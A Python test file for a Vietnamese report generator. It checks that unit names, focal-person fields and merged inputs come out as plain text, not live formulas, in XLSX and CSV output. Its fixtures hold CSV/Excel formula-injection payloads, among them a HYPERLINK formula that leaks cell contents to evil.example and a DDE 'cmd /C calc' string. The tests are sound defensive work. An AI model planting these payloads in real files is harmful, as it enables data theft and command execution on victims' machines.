"""Formula injection (issue 14): unit names, the reporting unit's name, the focal person
and token labels reach Phụ lục I (XLSX and CSV) and ``report merge`` as text, never as live
formulas. XLSX is judged from the sheet XML itself (no ``<f>`` element, every such cell a
string cell) and by reading it back; CSV cells are prefixed with ``'`` (OWASP)."""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from kyso.core.inventory.merge import merge_reports
from kyso.core.inventory.phuluc import Figures, Period, PhuLucReport, ReportRow
from kyso.core.inventory.report_files import write_csv, write_xlsx
from kyso.core.inventory.spreadsheet_cells import FORMULA_STARTS, csv_cell
from kyso.core.inventory.store import FocalPerson

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def hostile_report() -> PhuLucReport:
    return PhuLucReport(
        '=HYPERLINK("http://evil.example","Sở X")',
        Period.parse("2025-08"),
        [
            ReportRow(
                "=1+1",
                children=[ReportRow(name, Figures(1, 0, 1, 0, 0, 0, 1, 0)) for name in HOSTILE],
            )
        ],
        focal=FocalPerson("=cmd|'/C calc'!A0", "+chuyên viên", "-0912", "@x"),
    )


def sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as zf:
        return zf.read("xl/worksheets/sheet1.xml").decode("utf-8")


def assert_text_only(path: Path, expected_texts: list[str]) -> None:
    xml = sheet_xml(path)
    assert "<f>" not in xml and "<f " not in xml, "a formula reached the sheet"
    wb = load_workbook(path)
    try:
        ws = wb.active
        assert ws is not None
        texts = {}
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
                if isinstance(cell.value, str):
                    texts[cell.value] = cell.data_type
    finally:
        wb.close()
    for text in expected_texts:
        found = [t for t in texts if text.strip() in t]
        assert found, f"{text!r} missing from the sheet"
        assert all(texts[t] == "s" for t in found)


def test_phu_luc_xlsx_writes_hostile_names_as_text(tmp_path: Path) -> None:
    path = write_xlsx(hostile_report(), tmp_path / "pl1.xlsx")
    assert_text_only(path, [*HOSTILE, "=1+1", '=HYPERLINK("http://evil.example","Sở X")'])


def test_phu_luc_csv_prefixes_hostile_cells(tmp_path: Path) -> None:
    path = write_csv(hostile_report(), tmp_path / "pl1.csv")
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    for name in HOSTILE:
        assert "'" + name in cells
    # numbers stay numbers
    assert rows[-1][2:] == [str(n) for n in hostile_report().total.values()]


def test_merge_keeps_hostile_text_as_text(tmp_path: Path) -> None:
    first = write_xlsx(hostile_report(), tmp_path / "a.xlsx")
    # A hand-made input whose name cell is a real formula (as Excel saves it): read as its
    # cached value (none here), so the formula itself never travels into the merged file.
    second = tmp_path / "b.xlsx"
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(["STT", "Tên đơn vị", "Tổng số CBCCVC",
               "Số lượng chứng thư chữ ký số chuyên dùng công vụ đã được cấp", None,
               "Số lượng chứng thư chữ ký số chuyên dùng công vụ cần cấp", None,
               "Số lượng loại chứng thư chữ ký số chuyên dùng công vụ", None, None])
    ws.append([None, None, None, "Tổ chức", "Cá nhân", "Tổ chức", "Cá nhân", "SIM PKI",
               "USB Token", "RSSP"])
    ws.append(["I", '=HYPERLINK("http://evil.example","UBND xã")', 3, 0, 1, 0, 2, 0, 1, 0])
    ws["A1"].value = "STT"
    wb.save(second)
    wb.close()
    out = tmp_path / "merged.xlsx"
    result = merge_reports(
        [first, second], out, unit_name="=cmd|'/C calc'!A0", period="2025-08",
        csv_out=tmp_path / "merged.csv",
    )
    assert result.out == out
    assert_text_only(out, ["=cmd|'/C calc'!A0", *HOSTILE])
    with (tmp_path / "merged.csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert not [c for row in rows for c in row if c.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Sở Y tế", "Sở Y tế"),
        ("", ""),
        (-5, -5),
        (3, 3),
        (None, None),
    ],
)
def test_csv_cell(value: object, expected: object) -> None:
    assert csv_cell(value) == expected


def test_no_formula_element_even_for_a_long_equals_run(tmp_path: Path) -> None:
    report = hostile_report()
    report.groups[0].children.append(ReportRow("=" * 5000))
    xml = sheet_xml(write_xlsx(report, tmp_path / "x.xlsx"))
    assert not re.search(r"<f[ >]", xml)
